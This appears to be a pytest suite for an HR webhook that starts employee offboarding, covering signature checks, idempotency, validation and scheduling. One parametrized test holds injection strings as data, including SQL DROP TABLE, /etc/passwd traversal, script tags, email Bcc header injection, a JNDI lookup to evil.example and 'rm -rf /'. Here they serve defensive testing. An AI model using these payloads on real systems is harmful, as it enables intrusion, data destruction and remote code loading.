"""``POST /hooks/hr``: a signed, fresh, well-formed HR event starts one offboarding, once;
anything else is refused with a clear message and leaves no trace.

In-process (TestClient), no sandbox and no Prefect: the launcher is our own injected callable,
here one that records what it was asked to start.
"""

from __future__ import annotations

import json
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from httpx import Response

from approvals.policy import load_policy
from approvals.services import Services, open_settings_ledger
from approvals.watchdog import run_forever
from connectors.settings import Settings
from intake.app import create_intake
from intake.hooks import sign_hr
from intake.launch import launch_due, thread_launcher
from ledger.events import STRANDED_AFTER, claim_event, get_event, list_events

SECRET = "test-hr-secret"
NOW = datetime(2025, 3, 3, 12, 0, tzinfo=UTC)


@dataclass
class Clock:
    now: datetime = NOW

    def __call__(self) -> datetime:
        return self.now


@dataclass
class Recorder:
    """A launcher that records the parameters it is given; ``fail`` makes it raise."""

    launched: list[dict[str, Any]] = field(default_factory=list)
    fail: bool = False

    def __call__(self, params: dict[str, Any]) -> str:
        if self.fail:
            raise RuntimeError("the orchestrator is down")
        self.launched.append(params)
        return f"run-{len(self.launched)}"


@dataclass
class Door:
    svc: Services
    clock: Clock
    launcher: Recorder
    client: TestClient

    def post(
        self,
        event: dict[str, Any] | bytes,
        *,
        t: int | None = None,
        secret: str = SECRET,
        headers: dict[str, str] | None = None,
    ) -> Response:
        body = event if isinstance(event, bytes) else json.dumps(event).encode()
        stamp = int(self.clock.now.timestamp()) if t is None else t
        hdrs = sign_hr(secret, body, stamp) if headers is None else headers
        return self.client.post("/hooks/hr", content=body, headers=hdrs)

    def nothing_happened(self) -> None:
        assert list_events(self.svc.ledger) == []
        assert self.launcher.launched == []


def _services(tmp: Path, clock: Clock) -> Services:
    settings = Settings(
        ledger_url=f"sqlite:///{tmp / 'ledger.db'}", home=tmp, hr_webhook_secret=SECRET
    )
    return Services(
        settings=settings,
        ledger=open_settings_ledger(settings),
        policy=load_policy(),
        clock=clock,
    )


@pytest.fixture
def door(tmp_path: Path) -> Iterator[Door]:
    clock = Clock()
    svc = _services(tmp_path, clock)
    rec = Recorder()
    yield Door(svc, clock, rec, TestClient(create_intake(svc, launcher=rec)))
    svc.ledger.dispose()


def event(**over: Any) -> dict[str, Any]:
    ev: dict[str, Any] = {
        "event_id": "evt_0001",
        "type": "employee.terminated",
        "employee": {"email": "dana.sole@acme.com", "name": "Dana Sole"},
        "manager": {"email": "sofia.lead@acme.com"},
        "ticket": "IT-42",
        "occurred_at": "2025-03-03T11:59:00Z",  # unknown to us: ignored
    }
    ev.update(over)
    return ev


# --- a good event, once ------------------------------------------------------------------


def test_a_signed_event_starts_one_offboarding_with_the_right_parameters(door: Door) -> None:
    r = door.post(event())
    assert r.status_code == 202, r.text
    assert r.json() == {"ok": True, "event_id": "evt_0001", "status": "started", "run": "run-1"}
    params = {
        "email": "dana.sole@acme.com",
        "reason": "termination",
        "emergency": False,
        "ticket": "IT-42",
        "receiver": "sofia.lead@acme.com",
        "keep_projects": [],
        "requester": "hr-system:evt_0001",
    }
    assert door.launcher.launched == [params]
    (stored,) = list_events(door.svc.ledger)
    assert (stored.source, stored.event_id, stored.status, stored.run_ref) == (
        "hr",
        "evt_0001",
        "started",
        "run-1",
    )


def test_the_parameters_are_what_the_offboard_flow_accepts() -> None:
    """The contract with ``flows.offboard``: every event type maps to a valid request."""
    from flows.offboard import OffboardRequest
    from intake.hooks import HrEvent

    for typ, reason in (
        ("employee.terminated", "termination"),
        ("contract.ended", "contract_end"),
        ("role.changed", "role_change"),
    ):
        extra = {"keep_projects": [" Staging "]} if typ == "role.changed" else {}
        params = HrEvent.model_validate(event(type=typ, **extra)).flow_params()
        req = OffboardRequest(**params)
        assert req.reason.value == reason and not req.emergency and not req.dry_run
    assert params["keep_projects"] == ["Staging"]
    for typ in ("employee.terminated", "contract.ended"):
        params = HrEvent.model_validate(event(type=typ, security_risk=True)).flow_params()
        req = OffboardRequest(**params)
        assert req.emergency and req.reason.value == "security_incident"


def test_a_retried_delivery_answers_the_same_run_and_starts_nothing(door: Door) -> None:
    first = door.post(event()).json()
    for body in (
        event(),
        # Re-serialised, another delivery counter, the email differently cased: the same event.
        dict(reversed(event(employee={"email": "Dana.Sole@ACME.com"}, attempt=3).items())),
    ):
        door.clock.now += timedelta(seconds=30)
        r = door.post(body)
        assert r.status_code == 200, r.text
        assert r.json()["run"] == first["run"] == "run-1"
        assert r.json()["duplicate"] is True
    assert len(door.launcher.launched) == 1
    assert len(list_events(door.svc.ledger)) == 1


def test_the_same_id_with_other_content_is_a_conflict(door: Door) -> None:
    door.post(event())
    for other in (
        event(employee={"email": "someone.else@acme.com"}),
        event(type="contract.ended"),
        event(ticket="IT-43"),
    ):
        r = door.post(other)
        assert r.status_code == 409, r.text
        assert "different content" in r.json()["error"]
    assert len(door.launcher.launched) == 1
    assert get_event(door.svc.ledger, "hr", "evt_0001").run_ref == "run-1"  # type: ignore[union-attr]


def test_role_change_and_contract_end_map_to_their_reasons(door: Door) -> None:
    door.post(event(event_id="e1", type="contract.ended", manager=None, ticket=None))
    door.post(event(event_id="e2", type="role.changed", keep_projects=["Production"]))
    got = [
        (p["reason"], p["ticket"], p["receiver"], p["keep_projects"])
        for p in door.launcher.launched
    ]
    assert got == [
        ("contract_end", "", None, []),
        ("role_change", "IT-42", "sofia.lead@acme.com", ["Production"]),
    ]


# --- security risk: an emergency offboarding, now -----------------------------------------


@pytest.mark.parametrize("typ", ["employee.terminated", "contract.ended"])
def test_a_security_risk_starts_an_emergency_offboarding_now(door: Door, typ: str) -> None:
    """The runbook seed: "immediately if security risk". Lock out first, no pre-approval: the
    runbook's emergency (reason security_incident), whatever the effective date says."""
    r = door.post(event(type=typ, security_risk=True, effective_date="2025-03-31"))
    assert r.status_code == 202, r.text
    out = r.json()
    assert out["status"] == "started" and out["run"] == "run-1"
    assert out["warnings"] == [
        "security_risk: effective_date 2025-03-31T00:00:00+00:00 ignored; "
        "the emergency offboarding starts now"
    ]
    (params,) = door.launcher.launched
    assert params["emergency"] is True and params["reason"] == "security_incident"
    assert params["email"] == "dana.sole@acme.com"
    assert params["receiver"] == "sofia.lead@acme.com"  # content still goes to the manager
    (stored,) = list_events(door.svc.ledger)
    assert stored.kind == typ and stored.status == "started" and stored.scheduled_at is None
    # A redelivery is the same event: one emergency run, not two.
    again = door.post(event(type=typ, security_risk=True, effective_date="2025-03-31"))
    assert again.status_code == 200 and again.json()["run"] == "run-1"
    assert len(door.launcher.launched) == 1


def test_without_security_risk_nothing_is_an_emergency(door: Door) -> None:
    door.post(event(event_id="e1"))
    door.post(event(event_id="e2", security_risk=False))
    assert [p["emergency"] for p in door.launcher.launched] == [False, False]
    assert {p["reason"] for p in door.launcher.launched} == {"termination"}


def test_the_same_event_flagged_afterwards_is_a_conflict(door: Door) -> None:
    """Flagging a risk changes what is done: it takes a new event, not a redelivery."""
    door.post(event())
    r = door.post(event(security_risk=True))
    assert r.status_code == 409 and "different content" in r.json()["error"]
    assert [p["emergency"] for p in door.launcher.launched] == [False]


@pytest.mark.parametrize(
    ("over", "field_name", "says"),
    [
        (
            {"type": "role.changed", "security_risk": True},
            "event",
            "security_risk only applies to employee.terminated and contract.ended",
        ),
        ({"security_risk": "true"}, "security_risk", "valid boolean"),
        ({"security_risk": 1}, "security_risk", "valid boolean"),
        ({"security_risk": None}, "security_risk", "valid boolean"),
    ],
)
def test_security_risk_must_be_a_boolean_on_a_leaver(
    door: Door, over: dict[str, Any], field_name: str, says: str
) -> None:
    r = door.post(event(**over))
    assert r.status_code == 422, r.text
    (problem,) = r.json()["fields"]
    assert problem["field"] == field_name and says in problem["message"]
    door.nothing_happened()


def test_a_manager_may_be_given_as_a_plain_email(door: Door) -> None:
    assert door.post(event(manager="Sofia.Lead@acme.com")).status_code == 202
    assert door.launcher.launched[0]["receiver"] == "sofia.lead@acme.com"


# --- authentication: nothing is written --------------------------------------------------


def _auth_cases(body: bytes, t: int) -> dict[str, dict[str, str]]:
    mac = sign_hr(SECRET, body, t)["X-Handover-Signature"].split("v1=")[1]
    return {
        "unsigned": {"Content-Type": "application/json"},
        "wrong secret": sign_hr("not-the-secret", body, t),
        "signed another body": sign_hr(SECRET, body + b" ", t),
        "stale (6 min)": sign_hr(SECRET, body, t - 360),
        "future (6 min)": sign_hr(SECRET, body, t + 360),
        "timestamp swapped after signing": {"X-Handover-Signature": f"t={t + 1},v1={mac}"},
        "no timestamp": {"X-Handover-Signature": f"v1={mac}"},
        "no v1": {"X-Handover-Signature": f"t={t}"},
        "garbage": {"X-Handover-Signature": "garbage"},
        "non-numeric t": {"X-Handover-Signature": f"t=abc,v1={mac}"},
        "two timestamps": {"X-Handover-Signature": f"t={t},t={t},v1={mac}"},
        "truncated mac": {"X-Handover-Signature": f"t={t},v1={mac[:-2]}"},
        "uppercase scheme": {"X-Handover-Signature": f"T={t},V1={mac}"},
    }


@pytest.mark.parametrize("case", list(_auth_cases(b"{}", 0)))
def test_unsigned_bad_stale_or_future_signatures_are_refused(door: Door, case: str) -> None:
    body = json.dumps(event()).encode()
    t = int(NOW.timestamp())
    headers = _auth_cases(body, t)[case]
    r = door.client.post("/hooks/hr", content=body, headers=headers)
    assert r.status_code == 401, r.text
    err = r.json()["error"]
    assert "signature" in err.lower() or "x-handover-signature" in err.lower(), err
    door.nothing_happened()


def test_the_window_is_five_minutes_either_way(door: Door) -> None:
    t = int(NOW.timestamp())
    assert door.post(event(event_id="early"), t=t - 300).status_code == 202
    assert door.post(event(event_id="late"), t=t + 300).status_code == 202
    assert door.post(event(event_id="too-early"), t=t - 301).status_code == 401


def test_stale_message_says_why(door: Door) -> None:
    r = door.post(event(), t=int(NOW.timestamp()) - 360)
    assert "5-minute window" in r.json()["error"]


def test_a_rotated_secret_may_sign_alongside_the_old(door: Door) -> None:
    body = json.dumps(event()).encode()
    t = int(NOW.timestamp())
    old = sign_hr("old-secret", body, t)["X-Handover-Signature"].split("v1=")[1]
    new = sign_hr(SECRET, body, t)["X-Handover-Signature"].split("v1=")[1]
    r = door.client.post(
        "/hooks/hr", content=body, headers={"X-Handover-Signature": f"t={t},v1={old},v1={new}"}
    )
    assert r.status_code == 202, r.text


def test_without_a_secret_nothing_is_accepted(tmp_path: Path) -> None:
    clock = Clock()
    svc = _services(tmp_path, clock)
    svc.settings = Settings(ledger_url=svc.settings.ledger_url, hr_webhook_secret="")
    rec = Recorder()
    client = TestClient(create_intake(svc, launcher=rec))
    body = json.dumps(event()).encode()
    r = client.post("/hooks/hr", content=body, headers=sign_hr("", body, int(NOW.timestamp())))
    assert r.status_code == 503 and "not configured" in r.json()["error"]
    assert list_events(svc.ledger) == [] and rec.launched == []


# --- shape: clear 4xx, nothing written ---------------------------------------------------


@pytest.mark.parametrize(
    ("body", "status", "fields"),
    [
        (b"{not json", 400, []),
        (b"\xff\xfe\x00garbage", 400, []),
        (b"[" * 50_000 + b"]" * 50_000, 413, []),  # deep nesting is caught by size first
        (b"[" * 20_000 + b"]" * 20_000, 400, []),  # and by the parser's recursion limit
        (b"[]", 422, ["event"]),
        (b'"employee.terminated"', 422, ["event"]),
        (event(type="employee.hired"), 422, ["type"]),
        (event(type=None), 422, ["type"]),
        (event(employee={"email": "not-an-email"}), 422, ["employee.email"]),
        (event(employee={}), 422, ["employee.email"]),
        (event(employee="dana.sole@acme.com"), 422, ["employee"]),
        ({"type": "employee.terminated"}, 422, ["event_id", "employee"]),
        (event(event_id=""), 422, ["event_id"]),
        (event(event_id="x" * 129), 422, ["event_id"]),
        (event(event_id=12345), 422, ["event_id"]),
        (event(effective_date="tomorrow"), 422, ["effective_date"]),
        (event(effective_date="2025-03-04T09:00:00"), 422, ["effective_date"]),  # naive
        (event(effective_date=1741046400), 422, ["effective_date"]),
        (event(effective_date="2025-02-30"), 422, ["effective_date"]),
        (event(effective_date="9999-12-31T23:00:00-05:00"), 422, ["effective_date"]),
        (event(keep_projects=["Staging"]), 422, ["event"]),  # not a role change
        (event(manager={"email": "dana.sole@acme.com"}), 422, ["event"]),  # leaves to self
        (event(ticket="it-42"), 422, ["ticket"]),
        (event(type="role.changed", keep_projects=[" "]), 422, ["keep_projects"]),
        (event(type="role.changed", keep_projects=["x"] * 51), 422, ["keep_projects"]),
        # Several bad fields: each is listed.
        (
            event(event_id="a b", employee={"email": "nope"}, ticket="x"),
            422,
            ["event_id", "employee.email", "ticket"],
        ),
    ],
)
def test_malformed_events_are_refused_clearly(
    door: Door, body: dict[str, Any] | bytes, status: int, fields: list[str]
) -> None:
    r = door.post(body)
    assert r.status_code == status, r.text
    out = r.json()
    assert out["ok"] is False and out["error"]
    if status == 422:
        assert sorted(f["field"] for f in out["fields"]) == sorted(fields), out
        for f in fields:
            assert f"{f}: " in out["error"], out["error"]
    door.nothing_happened()


@pytest.mark.parametrize(
    ("over", "field_name"),
    [
        ({"event_id": "evt'; DROP TABLE inbound_events;--"}, "event_id"),
        ({"event_id": "../../etc/passwd"}, "event_id"),
        ({"event_id": "evt\n0001"}, "event_id"),
        ({"employee": {"email": "<script>alert(1)</script>@acme.com"}}, "employee.email"),
        ({"employee": {"email": "x'; DROP TABLE cases;--@acme.com"}}, "employee.email"),
        ({"employee": {"email": "dana@acme.com\r\nBcc: eve@evil.example"}}, "employee.email"),
        ({"employee": {"email": '"dana sole"@acme.com'}}, "employee.email"),
        ({"employee": {"email": "dana,eve@acme.com"}}, "employee.email"),
        ({"employee": {"email": "dana.sole@acme.com;eve@evil.example"}}, "employee.email"),
        ({"employee": {"email": "dana@acme_corp.com"}}, "employee.email"),
        ({"employee": {"email": "dana.sole\u202e@acme.com"}}, "employee.email"),  # bidi
        ({"employee": {"email": "dana\u200b.sole@acme.com"}}, "employee.email"),  # zero-width
        ({"employee": {"email": "dana.sole@acme.com\x00"}}, "employee.email"),
        ({"manager": "${jndi:ldap://evil.example/a}"}, "manager.email"),
        ({"ticket": "IT-1; rm -rf /"}, "ticket"),
        ({"ticket": "IT-1\nIT-2"}, "ticket"),
        ({"type": "role.changed", "keep_projects": ["Prod\x1b[2J"]}, "keep_projects.0"),
        ({"type": "role.changed", "keep_projects": ["Prod\u202euction"]}, "keep_projects.0"),
    ],
)
def test_injection_strings_are_refused_and_named(
    door: Door, over: dict[str, Any], field_name: str
) -> None:
    r = door.post(event(**over))
    assert r.status_code == 422, r.text
    assert [f["field"] for f in r.json()["fields"]] == [field_name]
    door.nothing_happened()


def test_unicode_look_alike_emails_are_accepted_as_written(door: Door) -> None:
    """A look-alike letter is a letter: the address is syntactically valid, so the event is
    accepted, with the email exactly as sent (lower-cased). The runbook matches emails exactly
    and reports look-alike accounts, so Dana's real account is not the one offboarded."""
    look_alike = "d\u0430na.sole@acme.com"  # Cyrillic a
    r = door.post(event(employee={"email": look_alike}))
    assert r.status_code == 202, r.text
    assert door.launcher.launched[0]["email"] == look_alike != "dana.sole@acme.com"
    r = door.post(event(event_id="evt_0002", employee={"email": "dana.sole@\u0430cme.com"}))
    assert r.status_code == 202, r.text  # an IDN domain, also as written


def test_an_oversized_body_is_refused_before_anything_else(door: Door) -> None:
    big = json.dumps(event(padding="x" * 70_000)).encode()
    assert door.post(big).status_code == 413
    unsigned = door.client.post("/hooks/hr", content=big, headers={})
    assert unsigned.status_code == 413
    assert "too large" in unsigned.json()["error"]
    door.nothing_happened()


# --- effective dates, scheduling and the sweep -------------------------------------------


def test_a_future_effective_date_is_scheduled_not_started(door: Door) -> None:
    r = door.post(event(effective_date="2025-03-10"))
    assert r.status_code == 202, r.text
    assert r.json() == {
        "ok": True,
        "event_id": "evt_0001",
        "status": "scheduled",
        "at": "2025-03-10T00:00:00+00:00",
    }
    assert door.launcher.launched == []
    stored = get_event(door.svc.ledger, "hr", "evt_0001")
    assert stored is not None and stored.status == "scheduled" and stored.run_ref == ""
    # A retry is told the same; the same date as a date-time at 00:00Z is the same content.
    again = door.post(event(effective_date="2025-03-10T00:00:00Z"))
    assert again.status_code == 200 and again.json()["at"] == "2025-03-10T00:00:00+00:00"
    assert door.launcher.launched == []


@pytest.mark.parametrize(
    ("effective", "at"),
    [
        ("2025-03-04T09:00:00+02:00", "2025-03-04T07:00:00+00:00"),
        ("2025-03-03T12:00:01Z", "2025-03-03T12:00:01+00:00"),
    ],
)
def test_date_times_keep_their_offset(door: Door, effective: str, at: str) -> None:
    r = door.post(event(effective_date=effective))
    assert r.status_code == 202 and r.json()["at"] == at


@pytest.mark.parametrize("effective", ["2025-03-03", "2025-03-03T12:00:00Z", "2024-12-31", ""])
def test_an_effective_date_now_or_past_starts_at_once(door: Door, effective: str) -> None:
    r = door.post(event(effective_date=effective))
    assert r.status_code == 202 and r.json()["status"] == "started", r.text
    assert len(door.launcher.launched) == 1


def test_launch_due_starts_each_scheduled_event_once(door: Door) -> None:
    door.post(event(effective_date="2025-03-10"))
    door.post(event(event_id="evt_0002", effective_date="2025-03-12"))
    svc, rec = door.svc, door.launcher
    assert launch_due(svc, rec, datetime(2025, 3, 9, 23, 59, 59, tzinfo=UTC)) == []
    assert rec.launched == []
    assert launch_due(svc, rec, datetime(2025, 3, 10, tzinfo=UTC)) == [("evt_0001", "run-1")]
    assert [p["requester"] for p in rec.launched] == ["hr-system:evt_0001"]
    assert launch_due(svc, rec, datetime(2025, 3, 11, tzinfo=UTC)) == []
    assert len(rec.launched) == 1
    # The HR system retrying after the start is told which run it became.
    door.clock.now = datetime(2025, 3, 11, tzinfo=UTC)
    r = door.post(event(effective_date="2025-03-10"))
    assert r.status_code == 200 and r.json()["status"] == "started"
    assert r.json()["run"] == "run-1"
    # Catching up after downtime: the later one starts at the next sweep, however late.
    assert launch_due(svc, rec, datetime(2025, 4, 1, tzinfo=UTC)) == [("evt_0002", "run-2")]
    assert launch_due(svc, rec, datetime(2025, 4, 2, tzinfo=UTC)) == []


def test_concurrent_sweeps_start_an_event_once(door: Door) -> None:
    door.post(event(effective_date="2025-03-10"))
    later = datetime(2025, 3, 10, 1, tzinfo=UTC)
    results: list[list[tuple[str, str]]] = []
    lock = threading.Lock()

    def sweep() -> None:
        out = launch_due(door.svc, door.launcher, later)
        with lock:
            results.append(out)

    threads = [threading.Thread(target=sweep) for _ in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert sum(len(r) for r in results) == 1
    assert len(door.launcher.launched) == 1


def test_a_failed_launch_is_not_lost(door: Door) -> None:
    door.launcher.fail = True
    r = door.post(event())
    assert r.status_code == 503 and "retry" in r.json()["error"]
    assert list_events(door.svc.ledger) == []  # so that the sender's retry can claim it
    door.launcher.fail = False
    r = door.post(event())
    assert r.status_code == 202 and r.json()["run"] == "run-1"

    door.post(event(event_id="evt_later", effective_date="2025-03-10"))
    due = datetime(2025, 3, 10, tzinfo=UTC)
    door.launcher.fail = True
    assert launch_due(door.svc, door.launcher, due) == []
    assert get_event(door.svc.ledger, "hr", "evt_later").status == "scheduled"  # type: ignore[union-attr]
    door.launcher.fail = False
    assert launch_due(door.svc, door.launcher, due) == [("evt_later", "run-2")]


def test_a_claim_stranded_by_a_crash_is_started_by_the_sweep(door: Door) -> None:
    # The process died between claiming the event and launching its run.
    claim_event(
        door.svc.ledger,
        "hr",
        "evt_crash",
        payload_digest="d" * 64,
        now=NOW,
        params={"email": "dana.sole@acme.com", "reason": "termination"},
    )
    assert launch_due(door.svc, door.launcher, NOW + timedelta(minutes=1)) == []
    assert launch_due(door.svc, door.launcher, NOW + STRANDED_AFTER) == [("evt_crash", "run-1")]
    assert launch_due(door.svc, door.launcher, NOW + 3 * STRANDED_AFTER) == []
    assert len(door.launcher.launched) == 1


def test_the_watchdog_starts_due_events(tmp_path: Path) -> None:
    """The watchdog's loop (``handover watchdog``), beside the intake, not inside it."""
    clock = Clock()
    svc = _services(tmp_path, clock)
    rec = Recorder()
    stop = threading.Event()

    def due_events() -> None:
        launch_due(svc, {"hr": rec})

    watchdog = threading.Thread(
        target=run_forever,
        args=(svc,),
        kwargs={"every": 0.05, "stop": stop, "also": [due_events]},
        daemon=True,
    )
    watchdog.start()
    try:
        with TestClient(create_intake(svc, launcher=rec)) as client:
            body = json.dumps(event(effective_date="2025-03-04")).encode()
            r = client.post(
                "/hooks/hr", content=body, headers=sign_hr(SECRET, body, int(NOW.timestamp()))
            )
            assert r.status_code == 202 and r.json()["status"] == "scheduled"
            time.sleep(0.3)
            assert rec.launched == []
            clock.now = datetime(2025, 3, 4, 0, 0, 1, tzinfo=UTC)
            deadline = time.monotonic() + 10
            while not rec.launched and time.monotonic() < deadline:
                time.sleep(0.05)
            time.sleep(0.3)
    finally:
        stop.set()
        watchdog.join(5)
    assert not watchdog.is_alive()
    assert len(rec.launched) == 1


def test_without_a_launcher_the_hr_hook_is_not_served(tmp_path: Path) -> None:
    svc = _services(tmp_path, Clock())
    client = TestClient(create_intake(svc))
    body = json.dumps(event()).encode()
    assert client.post("/hooks/hr", content=body, headers=sign_hr(SECRET, body)).status_code == 404


# --- the in-process launcher -------------------------------------------------------------


def test_the_launchers_pass_emergency_through(monkeypatch: pytest.MonkeyPatch) -> None:
    """Both launchers hand the flow every parameter of the event, ``emergency`` included."""
    from intake.hooks import HrEvent
    from intake.launch import deployment_launcher

    params = HrEvent.model_validate(event(security_risk=True)).flow_params()
    seen: list[dict[str, Any]] = []

    def fake_flow(**kw: Any) -> str:
        seen.append(kw)
        return "done"

    launch = thread_launcher(fake_flow)
    assert launch.wait(launch(params), 10) == "done"
    assert seen == [params] and seen[0]["emergency"] is True

    created: list[dict[str, Any]] = []

    def fake_run_deployment(name: str, **kw: Any) -> Any:
        created.append({"name": name, **kw})
        return type("FlowRun", (), {"id": uuid.UUID(int=7)})()

    monkeypatch.setattr("prefect.deployments.run_deployment", fake_run_deployment)
    ref = deployment_launcher("offboard/offboard")(params)
    assert ref == str(uuid.UUID(int=7))
    (call,) = created
    assert call["parameters"] == params and call["parameters"]["emergency"] is True
    assert call["idempotency_key"] == "offboard/offboard|hr-system:evt_0001"


def test_thread_launcher_runs_the_flow_function_in_the_background() -> None:
    gate = threading.Event()
    seen: list[dict[str, Any]] = []

    def fake_flow(**params: Any) -> str:
        gate.wait(10)
        seen.append(params)
        if params.get("email") == "boom@acme.com":
            raise ValueError("boom")
        return "done"

    launch = thread_launcher(fake_flow)
    ref = launch({"email": "dana.sole@acme.com", "reason": "termination"})
    bad = launch({"email": "boom@acme.com", "reason": "termination"})
    assert uuid.UUID(ref) and ref != bad
    assert seen == []  # the launcher answered before the run ended
    gate.set()
    assert launch.wait(ref, 10) == "done"
    assert isinstance(launch.wait(bad, 10), ValueError)
    assert {p["email"] for p in seen} == {"dana.sole@acme.com", "boom@acme.com"}
